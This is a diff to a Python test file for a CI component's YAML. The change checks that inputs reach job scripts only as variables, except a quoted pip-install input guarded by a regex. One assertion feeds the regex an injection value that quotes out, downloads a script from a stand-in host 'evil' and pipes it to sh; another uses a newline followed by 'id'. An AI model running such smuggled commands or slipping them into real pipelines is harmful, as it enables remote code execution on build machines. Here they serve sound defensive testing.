@@ -74,13 +74,22 @@ def test_every_input_is_declared_and_used(validator):
     assert used == declared
 
 
-def test_inputs_reach_the_job_only_as_variables():
-    """An input in a script line would be shell text; as a variable's value it is data."""
-    _, body = component()
+def test_inputs_reach_the_job_only_as_variables_but_what_pip_installs():
+    """An input in a script line would be shell text; as a variable's value it is data. `install` is the one
+    exception: a pipeline variable (a trigger's) would override a job variable, and pip runs setup code, so it
+    is config-time text, single-quoted, and its input's regex admits no quote or newline."""
+    header, body = component()
     jobs = yaml.safe_load(body)
     for name, job in jobs.items():
         for key in ("before_script", "script", "after_script"):
-            assert not INPUT.search("\n".join(job.get(key, []))), (name, key)
+            text = "\n".join(job.get(key, []))
+            assert [m.group(1) for m in INPUT.finditer(text)] == (
+                ["install"] if key == "before_script" and name == ".gitbot-job" else []
+            ), (name, key)
+    assert "'$[[ inputs.install ]]'" in "\n".join(jobs[".gitbot-job"]["before_script"])
+    allowed = re.compile(header["spec"]["inputs"]["install"]["regex"])
+    assert allowed.match("gitbot[gitlab,bedrock] @ git+https://example.com/g/gitbot.git@v1")
+    assert not allowed.match("gitbot' ; curl evil | sh ; '") and not allowed.match("gitbot\nid")
 
 
 def test_the_include_file_is_valid_and_runs_the_same_jobs(validator):
